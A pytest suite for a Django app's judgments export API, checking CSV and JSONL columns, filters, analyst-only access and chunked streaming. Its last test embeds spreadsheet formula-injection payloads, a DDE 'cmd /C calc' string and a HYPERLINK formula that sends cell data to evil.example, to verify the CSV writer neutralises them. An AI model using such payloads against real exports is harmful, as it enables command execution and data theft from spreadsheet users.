"""Judgments export: CSV and JSONL streamed, one row per judgment with the documented columns, analysts only."""
import csv
import io
import json

import pytest

from sbsapp.api.export import (
    COLUMNS,
    csv_chunks,
    export_rows,
    item_product_lists,
    item_product_lists_in_python,
    jsonl_chunks,
)
from sbsapp.judging import Verdict, judgment_skip, judgment_submit
from sbsapp.models import Item, Judgment
from tests.api_builders import token_client
from tests.sbs_factories import make_campaign, make_dataset, make_item

pytestmark = pytest.mark.django_db


@pytest.fixture
def campaign(annotator, annotator2):
    dataset = make_dataset(products=12, queries=6)
    campaign = make_campaign(dataset=dataset, name="export-me")
    item = make_item(campaign=campaign, b_on_left=True)  # A shows p0..p2, B shows p3..p5 (B on the left)
    judgment_submit(require_reservation=False, item=item, annotator=annotator, submit_key="k1",
                    verdict=Verdict(choice=-1, left_marks={0: 3}, right_marks={2: 0}, reasons=["intent", "relevance"],
                                    comment='said "great", really'))
    judgment_skip(require_reservation=False, item=make_item(campaign=campaign), annotator=annotator2, submit_key="k2")
    other = make_campaign(dataset=dataset, name="not-me")
    judgment_submit(require_reservation=False,
                    item=make_item(campaign=other), annotator=annotator, submit_key="k3", verdict=Verdict(choice=2))
    return campaign


def fetch(client, **params):
    response = client.get("/api/judgments/export", params)
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    return response, body


def test_csv_export_has_the_documented_columns_and_one_row_per_judgment(analyst, campaign):
    response, body = fetch(token_client(analyst), format="csv", campaign=campaign.pk)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="judgments-campaign-' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(body)))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == 2
    judged = next(r for r in rows if r["skipped"] == "false")
    assert judged["campaign"] == "export-me" and judged["annotator"] == "ann1"
    assert (judged["choice"], judged["preference"], judged["b_on_left"]) == ("-1", "1", "true")
    assert judged["left_system"] == campaign.system_b.name and judged["right_system"] == campaign.system_a.name
    assert json.loads(judged["a_product_ids"]) == ["p0", "p1", "p2"]
    assert json.loads(judged["b_product_ids"]) == ["p3", "p4", "p5"]
    assert json.loads(judged["marks"]) == {"p3": 3, "p2": 0}  # left is B's list, right is A's
    assert json.loads(judged["reasons"]) == ["relevance", "intent"]
    assert judged["comment"] == 'said "great", really'
    skipped = next(r for r in rows if r["skipped"] == "true")
    assert skipped["choice"] == "" and skipped["preference"] == "" and skipped["annotator"] == "ann2"


def test_jsonl_export_is_one_object_per_judgment(analyst, campaign):
    response, body = fetch(token_client(analyst), format="jsonl")
    assert response["Content-Type"].startswith("application/x-ndjson")
    rows = [json.loads(line) for line in body.splitlines()]
    assert len(rows) == Judgment.objects.count() == 3
    assert all(list(row) == list(COLUMNS) for row in rows)
    mine = next(r for r in rows if r["comment"])
    assert mine["marks"] == {"p3": 3, "p2": 0} and mine["preference"] == 1 and mine["b_on_left"] is True


def test_export_filters_by_annotator_and_time(analyst, campaign):
    client = token_client(analyst)
    _, body = fetch(client, format="jsonl", annotator="ann2")
    assert [json.loads(line)["annotator"] for line in body.splitlines()] == ["ann2"]
    _, body = fetch(client, format="jsonl", created_after="2999-01-01T00:00:00Z")
    assert body == ""


def test_export_is_refused_to_annotators(annotator, campaign):
    response = token_client(annotator).get("/api/judgments/export", {"format": "csv"})
    assert response.status_code == 403
    assert response.json()["message"] == "This endpoint is for analysts and admins."


@pytest.mark.parametrize(("params", "field"), [
    ({"format": "xlsx"}, "format"),
    ({"campaign": 999999}, "campaign"),
    ({"segment": "middle"}, "segment"),
    ({"campain": 1}, "campain"),
])
def test_bad_export_parameters_are_json_400s(analyst, params, field):
    response = token_client(analyst).get("/api/judgments/export", params)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert field in response.json()["errors"]


def test_session_authenticated_analyst_can_export_too(client, analyst, campaign):
    client.force_login(analyst)
    response = client.get("/api/judgments/export", {"format": "csv", "campaign": campaign.pk})
    assert response.status_code == 200
    assert len(list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))) == 3


def test_rows_are_read_in_bounded_chunks_with_one_item_query_per_chunk(campaign, django_assert_max_num_queries):
    judgments = Judgment.objects.all()
    with django_assert_max_num_queries(1 + 3):  # the cursor + one item lookup per chunk of 1 row
        rows = list(export_rows(judgments, chunk_rows=1))
    assert len(rows) == 3


def test_writers_batch_rows_into_chunks():
    rows = [{column: i for column in COLUMNS} for i in range(5)]
    csv_parts = list(csv_chunks(rows, rows_per_chunk=2))
    assert len(csv_parts) == 3 and csv_parts[0].count("\n") == 3  # header + 2 rows, then 2, then 1
    jsonl_parts = list(jsonl_chunks(rows, rows_per_chunk=2))
    assert [part.count("\n") for part in jsonl_parts] == [2, 2, 1]


def test_database_unnesting_of_product_lists_matches_decoding_the_snapshots(campaign):
    make_item(campaign=campaign, a_products=[], b_products=[])  # an item with empty lists too
    ids = set(Item.objects.values_list("pk", flat=True))
    assert item_product_lists(item_ids=ids) == item_product_lists_in_python(item_ids=ids)
    assert item_product_lists(item_ids=set()) == {}


def test_csv_export_neutralises_formula_cells_but_keeps_numbers_and_jsonl_verbatim(analyst):
    from tests.conftest import make_user

    dataset = make_dataset(products=12, queries=2)
    campaign = make_campaign(dataset=dataset, name="=cmd|' /C calc'!A0")
    from retrieval.models import Query

    query = Query.objects.create(dataset=dataset, query_id="q-evil", text="-2+3 pans")
    item = make_item(campaign=campaign, query=query, b_on_left=False)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    judgment_submit(require_reservation=False, item=item, annotator=make_user("@mallory", None), submit_key="evil",
                    verdict=Verdict(choice=-2, comment=evil))
    client = token_client(analyst)
    _, body = fetch(client, format="csv", campaign=campaign.pk)
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["comment"] == "'" + evil
    assert row["annotator"] == "'@mallory"
    assert row["campaign"] == "'=cmd|' /C calc'!A0"
    assert row["query"] == "'-2+3 pans"
    assert (row["choice"], row["preference"]) == ("-2", "-2")  # genuine numbers stay numbers
    _, body = fetch(client, format="jsonl", campaign=campaign.pk)
    verbatim = json.loads(body.splitlines()[0])
    assert verbatim["comment"] == evil and verbatim["annotator"] == "@mallory" and verbatim["query"] == "-2+3 pans"
    assert verbatim["preference"] == -2
